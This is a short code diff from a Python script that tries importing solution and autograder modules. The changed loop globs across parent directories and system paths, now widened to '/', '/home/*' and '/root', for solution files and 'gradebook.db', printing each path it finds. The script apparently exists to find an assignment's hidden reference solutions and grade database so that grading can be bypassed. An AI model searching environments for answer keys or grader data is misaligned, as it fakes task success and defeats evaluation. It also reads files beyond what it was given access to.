@@ -18,7 +18,7 @@ for module in ("solutions.a02_convolution", "autograder.cases", "autograder.case
     except BaseException as error:
         print("no", module, error)
 
-for depth in ("", "..", "../..", "../../..", "../../../..", "/work", "/home", "/root", "/srv", "/tmp", "/opt"):
+for depth in ("", "..", "../..", "../../..", "../../../..", "/", "/*", "/home/*", "/root", "/srv", "/tmp", "/opt"):
     for pattern in ("*solution*", "*solutions*/*.py", "*/solutions/*.py", "source/*/*", "gradebook.db", "*/gradebook.db"):
         for path in glob.glob(os.path.join(depth, pattern)):
             print("found", path)
